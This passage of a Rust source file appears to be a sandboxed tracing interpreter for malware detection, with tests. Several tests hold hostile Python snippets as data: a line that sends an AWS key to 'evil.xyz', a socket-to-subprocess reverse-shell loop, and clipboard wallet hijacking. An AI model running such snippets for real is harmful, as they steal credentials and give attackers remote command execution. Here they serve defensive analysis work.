                Int(a.checked_pow(exp).unwrap_or(i64::MAX))
            }
            (BinOp::Add, Float(a), Float(b)) => Float(a + b),
            (BinOp::Sub, Float(a), Float(b)) => Float(a - b),
            (BinOp::Mul, Float(a), Float(b)) => Float(a * b),
            (BinOp::Div, Float(a), Float(b)) => Float(a / b),
            (BinOp::Add, Int(a), Float(b)) => Float(*a as f64 + b),
            (BinOp::Add, Float(a), Int(b)) => Float(a + *b as f64),
            (BinOp::Add, Str(a), Str(b)) => {
                self.charge_bytes(a.len() + b.len())?;
                let mut s = String::with_capacity(a.len() + b.len());
                s.push_str(a);
                s.push_str(b);
                Str(Rc::from(s))
            }
            (BinOp::Eq, a, b) => Bool(value_eq(a, b)),
            (BinOp::Ne, a, b) => Bool(!value_eq(a, b)),
            (BinOp::Lt, Int(a), Int(b)) => Bool(a < b),
            (BinOp::Le, Int(a), Int(b)) => Bool(a <= b),
            (BinOp::Gt, Int(a), Int(b)) => Bool(a > b),
            (BinOp::Ge, Int(a), Int(b)) => Bool(a >= b),
            (BinOp::Lt, Float(a), Float(b)) => Bool(a < b),
            (BinOp::Gt, Float(a), Float(b)) => Bool(a > b),
            (BinOp::In, needle, List(items)) => Bool(items.iter().any(|i| value_eq(i, needle))),
            (BinOp::In, Str(needle), Str(hay)) => Bool(hay.contains(needle.as_ref())),
            // Mixed/opaque arithmetic degrades to an opaque value instead
            // of failing — mock data flows through without killing the
            // trace.
            (_, Opaque(src), _) | (_, _, Opaque(src)) => Opaque(*src),
            _ => return self.fail(Fault::Unsupported(op, l, r)),
        };
        Ok(v)
    }
}

/// Loop detection over the headers of one `while` execution.
struct Watch {
    /// The header later ones are compared with; none before the first
    /// check.
    saved: Option<Header>,
    /// Failed checks left before the save moves.
    left: u32,
    /// Failed checks the next save gets.
    span: u32,
    /// Set once the loop has skipped (or in the plain reference).
    done: bool,
}

/// A saved loop header: the state a repeat compares, and the counters
/// that measure the stretch since.
struct Header {
    /// The globals, then the current call's locals.
    slots: Vec<Option<Value>>,
    steps: u64,
    string_bytes: usize,
    records: usize,
    effect_args: usize,
    args: usize,
    names: usize,
}

/// Container nesting a loop comparison follows; deeper values count as
/// changed, which keeps the comparison off the native stack's limits.
const MAX_COMPARE_DEPTH: u32 = 32;

/// Exact equality of two runtime values: scalars and ids by value,
/// floats by bits, strings by bytes, containers element by element.
/// Spends a unit of `budget` per value and per 32 string bytes, and
/// answers `false` when the budget or the depth runs out.
fn same_value(a: &Value, b: &Value, depth: u32, budget: &mut u64) -> bool {
    let Some(left) = budget.checked_sub(1) else {
        return false;
    };
    *budget = left;
    match (a, b) {
        (Value::Int(x), Value::Int(y)) => x == y,
        (Value::Float(x), Value::Float(y)) => x.to_bits() == y.to_bits(),
        (Value::Bool(x), Value::Bool(y)) => x == y,
        (Value::NoneV, Value::NoneV) => true,
        (Value::Func(x), Value::Func(y)) => x == y,
        (Value::Module(x), Value::Module(y))
        | (Value::ExternalFn(x), Value::ExternalFn(y))
        | (Value::Opaque(x), Value::Opaque(y)) => x == y,
        (Value::Str(x), Value::Str(y)) => {
            if Rc::ptr_eq(x, y) {
                return true;
            }
            let units = (x.len() / 32) as u64;
            if x.len() != y.len() || *budget < units {
                return false;
            }
            *budget -= units;
            x == y
        }
        (Value::List(x), Value::List(y)) => {
            Rc::ptr_eq(x, y)
                || (depth > 0
                    && x.len() == y.len()
                    && x.iter()
                        .zip(y.iter())
                        .all(|(a, b)| same_value(a, b, depth - 1, budget)))
        }
        (Value::Dict(x), Value::Dict(y)) => {
            Rc::ptr_eq(x, y)
                || (depth > 0
                    && x.len() == y.len()
                    && x.iter().zip(y.iter()).all(|((ka, va), (kb, vb))| {
                        same_value(ka, kb, depth - 1, budget)
                            && same_value(va, vb, depth - 1, budget)
                    }))
        }
        _ => false,
    }
}

/// Mocked return values chosen so malicious code paths keep executing
/// (conditions pass, loops iterate once or twice).
#[derive(Clone, Copy)]
enum Mock {
    /// An opaque result named after the API.
    Opaque,
    /// The string `mock-value`.
    Value,
    /// The string `mock`, from a built-in method.
    Builtin,
    /// A one-entry environment dict.
    Environ,
    /// A one-path glob result naming browser credential storage.
    Glob,
    /// `True`.
    Match,
}

fn mock_kind(api: &str) -> Mock {
    match api {
        "os.getenv" | "clipboard.paste" | "socket.gethostname" => Mock::Value,
        "os.environ" => Mock::Environ,
        "glob.glob" => Mock::Glob,
        "re.match" => Mock::Match,
        api if api.starts_with("builtin.") => Mock::Builtin,
        _ => Mock::Opaque,
    }
}

fn value_eq(a: &Value, b: &Value) -> bool {
    match (a, b) {
        (Value::Int(x), Value::Int(y)) => x == y,
        (Value::Str(x), Value::Str(y)) => x == y,
        (Value::Bool(x), Value::Bool(y)) => x == y,
        (Value::NoneV, Value::NoneV) => true,
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse;

    fn trace(src: &str) -> Trace {
        run(&parse(src).unwrap(), &InterpConfig::default())
    }

    #[test]
    fn records_network_exfiltration_effects() {
        let t = trace(
            "import os\nimport requests\nk = os.getenv('AWS_KEY')\nrequests.post('http://evil.xyz', k)\n",
        );
        assert_eq!(t.outcome, Outcome::Completed);
        assert!(t.touched("os.getenv"));
        assert!(t.touched("requests.post"));
        let post = t
            .effects
            .iter()
            .find(|e| e.api() == "requests.post")
            .unwrap();
        let args = post.arg_previews();
        assert!(args[0].contains("evil.xyz"));
        assert!(args[1].contains("mock-value"), "{args:?}");
    }

    #[test]
    fn functions_and_control_flow_execute() {
        let t = trace(
            "def go(n):\n    if n > 1:\n        return n * go(n - 1)\n    return 1\nx = go(5)\nsend(x)\n",
        );
        assert_eq!(t.outcome, Outcome::Completed);
        // `send` is an undefined global → traced as a handle call.
        assert!(t.effects.iter().any(|e| e.api().starts_with("send")));
    }

    #[test]
    fn try_except_silences_errors_like_install_hooks() {
        let t = trace("try:\n    x = 1 / 0\nexcept:\n    pass\ny = 2\n");
        assert_eq!(t.outcome, Outcome::Completed);
        let t = trace("x = 1 / 0\n");
        assert_eq!(t.outcome, Outcome::Error);
    }

    #[test]
    fn infinite_loops_exhaust_fuel_but_keep_effects() {
        let t = run(
            &parse("import socket\ns = socket.socket()\nwhile True:\n    s.connect('h', 1)\n")
                .unwrap(),
            &InterpConfig { fuel: 500 },
        );
        assert_eq!(t.outcome, Outcome::FuelExhausted);
        assert!(t.touched("socket.socket"));
    }

    #[test]
    fn fuel_exhaustion_is_not_catchable() {
        let t = run(
            &parse("try:\n    while True:\n        pass\nexcept:\n    pass\n").unwrap(),
            &InterpConfig { fuel: 100 },
        );
        assert_eq!(t.outcome, Outcome::FuelExhausted);
    }

    #[test]
    fn doubling_strings_exhaust_the_byte_budget_but_keep_effects() {
        let t = trace(
            "s = 'ab'\nprobe(s)\ntry:\n    while True:\n        s = s + s\nexcept:\n    pass\n",
        );
        assert_eq!(t.outcome, Outcome::MemoryExhausted);
        assert!(t.touched("probe"));
        assert!(t.steps < 1_000, "stopped after {} steps", t.steps);
    }

    #[test]
    fn iterating_a_string_is_charged_per_character() {
        // 22 doublings create 2^24 - 4 bytes, four short of the budget;
        // the fifth character iterated crosses it.
        assert_eq!(MAX_STRING_BYTES, 1 << 24);
        let t = trace(
            "s = 'ab'\ni = 0\nwhile i < 22:\n    s = s + s\n    i = i + 1\nfor c in s:\n    probe(c)\n",
        );
        assert_eq!(t.effects.len(), 4);
        assert_eq!(t.outcome, Outcome::MemoryExhausted);
    }

    #[test]
    fn unbounded_recursion_exceeds_the_call_depth() {
        for src in [
            "def f():\n    f()\n\nf()\n",
            "def f(n):\n    return f(n)\n\nf(1)\n",
        ] {
            let t = run(&parse(src).unwrap(), &InterpConfig { fuel: 1_000_000 });
            assert_eq!(t.outcome, Outcome::DepthExceeded, "{src:?}");
            assert!(t.error.is_none());
        }
        // Not catchable either.
        let t = trace("def f():\n    f()\ntry:\n    f()\nexcept:\n    send(1)\n");
        assert_eq!(t.outcome, Outcome::DepthExceeded);
        assert!(!t.touched("send"));
    }

    #[test]
    fn deep_recursion_stops_within_a_small_thread_stack() {
        // Recursion from inside the deepest list nesting the parser
        // accepts: the block, the return value and the call take the
        // other four levels.
        let levels = crate::parser::MAX_NESTING - 4;
        let nested = format!(
            "def f(n):\n    return {}f(n){}\n\nf(1)\n",
            "[".repeat(levels),
            "]".repeat(levels)
        );
        let handle = std::thread::Builder::new()
            .stack_size(2 << 20)
            .spawn(move || {
                let mut outcomes = Vec::new();
                for src in ["def f(n):\n    return f(n)\n\nf(1)\n", nested.as_str()] {
                    let t = run(&parse(src).unwrap(), &InterpConfig { fuel: 10_000_000 });
                    outcomes.push(t.outcome);
                }
                outcomes
            })
            .unwrap();
        assert_eq!(
            handle.join().expect("no stack overflow"),
            [Outcome::DepthExceeded, Outcome::DepthExceeded]
        );
    }

    #[test]
    fn generated_malware_produces_behavior_specific_traces() {
        use crate::gen::{generate, Behavior};
        use rand::rngs::StdRng;
        use rand::SeedableRng;
        let mut rng = StdRng::seed_from_u64(1);
        for behavior in Behavior::ALL {
            let module = generate(behavior, &mut rng);
            let t = run(&module, &InterpConfig::default());
            assert_ne!(
                t.outcome,
                Outcome::Error,
                "{behavior}: install hook must not die uncaught"
            );
            assert!(
                !t.effects.is_empty(),
                "{behavior}: the payload must leave a trace"
            );
        }
    }

    #[test]
    fn exfil_env_touches_environ_and_network() {
        use crate::gen::{generate, Behavior};
        use rand::rngs::StdRng;
        use rand::SeedableRng;
        let mut rng = StdRng::seed_from_u64(3);
        let module = generate(Behavior::ExfilEnv, &mut rng);
        let t = run(&module, &InterpConfig::default());
        assert!(t.touched("os.environ"));
        assert!(t.touched("requests.post"));
    }

    #[test]
    fn benign_code_stays_offline() {
        use crate::gen::generate_benign;
        use rand::rngs::StdRng;
        use rand::SeedableRng;
        let mut rng = StdRng::seed_from_u64(5);
        for _ in 0..5 {
            let module = generate_benign(&mut rng);
            let t = run(&module, &InterpConfig::default());
            assert!(!t.touched("requests."));
            assert!(!t.touched("socket."));
            assert!(!t.touched("subprocess."));
        }
    }

    #[test]
    fn dict_and_list_semantics() {
        let t = trace(
            "d = {'a': 1, 'b': 2}\nx = d['a']\nitems = [10, 20, 30]\ny = items[2]\nif x == 1 and y == 30:\n    probe('ok')\n",
        );
        assert_eq!(t.outcome, Outcome::Completed);
        assert!(t.effects.iter().any(|e| e.api().starts_with("probe")));
    }

    #[test]
    fn string_methods_are_mocked() {
        let t = trace("s = 'ABC'\nt = s.strip()\nu = t.lower()\n");
        assert_eq!(t.outcome, Outcome::Completed);
    }

    #[test]
    fn apis_deduplicates_in_order() {
        let t = trace("import os\na = os.getenv('X')\nb = os.getenv('Y')\nos.remove('f')\n");
        assert_eq!(t.apis(), vec!["os.getenv", "os.remove"]);
    }

    #[test]
    fn runtime_paths_are_interned_once() {
        let t = trace("import socket\ns = socket.socket()\ni = 0\nwhile i < 5:\n    s.recv(1)\n    i = i + 1\n");
        let ids: Vec<ApiId> = t
            .effects
            .iter()
            .filter(|e| e.api() == "socket.socket.recv")
            .map(|e| e.api_id())
            .collect();
        assert_eq!(ids.len(), 10, "a field read and a call per iteration");
        assert!(ids.windows(2).all(|w| w[0] == w[1]));
    }

    #[test]
    fn uncallable_values_error_cleanly() {
        let t = trace("x = 3\nx()\n");
        assert_eq!(t.outcome, Outcome::Error);
        let err = t.error.expect("error outcome carries the error");
        assert!(err.message.contains("not callable"), "{err}");
    }

    #[test]
    fn integer_overflow_wraps_instead_of_panicking() {
        let t =
            trace("x = -9223372036854775807 - 1\ny = -x\nz = x / -1\nw = x % -1\nsend(y, z, w)\n");
        assert_eq!(t.outcome, Outcome::Completed);
    }

    #[test]
    fn completed_runs_carry_no_error() {
        let t = trace("x = 1\n");
        assert_eq!(t.outcome, Outcome::Completed);
        assert!(t.error.is_none());
    }

    /// Runs `src` with every loop iteration executed (`plain`) or with
    /// repeating loops skipped, returning the trace and the slots the
    /// loop snapshots copied.
    fn execute_with(src: &str, fuel: u64, plain: bool) -> (Trace, u64) {
        let program = Program::lower(&parse(src).unwrap());
        let mut m = Machine::new(&program, &InterpConfig { fuel });
        m.plain = plain;
        let outcome = m.run();
        let copied = m.copied_slots;
        (m.into_trace(outcome), copied)
    }

    /// Everything a trace exposes except the skip count.
    fn render(t: &Trace) -> String {
        let mut out = format!(
            "{:?} steps {} error {:?}\n",
            t.outcome,
            t.steps,
            t.error.as_ref().map(|e| e.to_string())
        );
        for e in t.effects.iter() {
            let _ = writeln!(out, "{} {:?}", e.api(), e.arg_previews());
        }
        let _ = write!(out, "apis {:?}", t.apis());
        out
    }

    /// Asserts the skipping run of `src` at `fuel` equals the plain one,
    /// and returns the skipping trace.
    fn assert_exact(src: &str, fuel: u64) -> Trace {
        let (plain, _) = execute_with(src, fuel, true);
        let (fast, _) = execute_with(src, fuel, false);
        assert_eq!(plain.skipped_steps, 0);
        assert_eq!(render(&fast), render(&plain), "fuel {fuel}:\n{src}");
        fast
    }

    #[test]
    fn payload_loops_are_skipped_exactly() {
        use crate::gen::{generate, Behavior};
        use crate::printer::print_module;
        use rand::rngs::StdRng;
        use rand::SeedableRng;
        let mut rng = StdRng::seed_from_u64(9);
        for behavior in [Behavior::ReverseShell, Behavior::ClipboardHijack] {
            let src = print_module(&generate(behavior, &mut rng));
            let t = assert_exact(&src, 20_000);
            assert_eq!(t.outcome, Outcome::FuelExhausted, "{behavior}");
            assert!(
                t.steps - t.skipped_steps < 200,
                "{behavior}: executed {} of {} steps",
                t.steps - t.skipped_steps,
                t.steps
            );
        }
    }

    #[test]
    fn an_empty_loop_at_huge_fuel_ends_at_once() {
        let (t, _) = execute_with("while True:\n    pass\n", 1_000_000_000_000_000, false);
        assert_eq!(t.outcome, Outcome::FuelExhausted);
        assert_eq!(t.steps, 1_000_000_000_000_000);
        assert!(t.effects.is_empty());
        assert!(t.steps - t.skipped_steps < 100);
    }

    #[test]
    fn a_repeating_concatenation_trips_the_byte_budget_at_the_plain_step() {
        // Ten doublings first, so the plain run needs only ~4,000
        // iterations of the second loop to cross the budget.
        let src = "s = 'ab'\nq = 0\nwhile q < 10:\n    s = s + s\n    q = q + 1\nwhile True:\n    t = s + s\n";
        let t = assert_exact(src, 1_000_000_000_000);
        assert_eq!(t.outcome, Outcome::MemoryExhausted);
        assert!(t.skipped_steps > 0);
    }

    #[test]
    fn a_huge_frame_copies_at_most_a_slot_per_executed_step() {
        // 10,002 global slots (`unused`, the names it reads, and `i`),
        // then a counter loop whose state never repeats. At the default
        // fuel no check fits the bound; at ten times it, some run.
        let names: Vec<String> = (0..10_000).map(|i| format!("x{i}")).collect();
        let src = format!(
            "def unused():\n    return [{}]\n\ni = 0\nwhile True:\n    i = i + 1\n",
            names.join(", ")
        );
        for fuel in [20_000, 200_000] {
            let (plain, _) = execute_with(&src, fuel, true);
            let (fast, copied) = execute_with(&src, fuel, false);
            assert_eq!(render(&fast), render(&plain));
            assert_eq!(fast.skipped_steps, 0);
            assert!(
                copied <= fast.steps,
                "fuel {fuel}: copied {copied} slots in {} steps",
                fast.steps
            );
            assert_eq!(copied > 0, fuel > 20_000, "fuel {fuel}");
        }
    }

    mod loops {
        use super::*;
        use proptest::prelude::*;

        /// Names every generated program starts with; `s` is 32 KiB, so
        /// `t = s + s` reaches the byte budget within the fuel range.
        const SETUP: &str = "import socket\nimport subprocess\nimport clipboard\nimport re\n\
            s = 'ab'\nq = 0\nwhile q < 14:\n    s = s + s\n    q = q + 1\n\
            b = True\ni = 0\nn = 0\ng = -0.0\nk = ''\nwallet = '1Hijack'\nsock = socket.socket()\n";

        /// Loop-body statements: the two payload templates' mock calls, a
        /// byte-budget concatenation, a toggle, a saturating and an
        /// unbounded counter, a caught error, nested loops, floats,
        /// containers, a growing string, a late raise and a late return.
        const BODY: &[&str] = &[
            "cmd = sock.recv(1024)",
            "subprocess.run(cmd)",
            "text = clipboard.paste()",
            "if re.match('^1', text):\n    clipboard.copy(wallet)",
            "t = s + s",
            "b = not b",
            "if i < 40:\n    i = i + 1",
            "n = n + 1",
            "try:\n    x = 1 / 0\nexcept:\n    pass",
            "send(b, i)",
            "j = 0\nwhile j < 3:\n    j = j + 1\n    probe(j)",
            "while b:\n    b = not b\n    probe(b)",
            "g = 0.0 - g",
            "l = [i, b, g]",
            "d = {'k': i, 'v': [s]}",
            "k = k + 'x'",
            "if n == 700:\n    raise n",
            "if i == 40:\n    return i",
        ];

        const CONDS: &[&str] = &["True", "i < 50", "n < 100000", "b or True"];

        fn indent(block: &str, by: &str) -> String {
            block.lines().map(|l| format!("{by}{l}\n")).collect()
        }

        /// A loop over `body` at top level, or in a `def` called under
        /// `try` (where `return` is allowed).
        fn program(body: &[usize], cond: usize, in_def: bool) -> String {
            let stmts: String = body
                .iter()
                .filter(|&&b| in_def || !BODY[b].contains("return"))
                .map(|&b| indent(BODY[b], "    "))
                .collect();
            let stmts = if stmts.is_empty() {
                "    pass\n".to_owned()
            } else {
                stmts
            };
            let looped = format!("while {}:\n{stmts}", CONDS[cond]);
            if in_def {
                format!(
                    "{SETUP}def go():\n{}\ntry:\n    go()\nexcept:\n    pass\nafter(n, i)\n",
                    indent(&looped, "    ")
                )
            } else {
                format!("{SETUP}{looped}after(n, i)\n")
            }
        }

        proptest! {
            #[test]
            fn skipping_equals_plain_execution(
                body in proptest::collection::vec(0..BODY.len(), 1..5),
                cond in 0..CONDS.len(),
                in_def in any::<bool>(),
                fuel in 1u64..50_000,
            ) {
                let src = program(&body, cond, in_def);
                let (plain, _) = execute_with(&src, fuel, true);
                let (fast, _) = execute_with(&src, fuel, false);
                prop_assert_eq!(plain.skipped_steps, 0);
                prop_assert_eq!(render(&fast), render(&plain), "{}", src);
            }
        }
    }
}
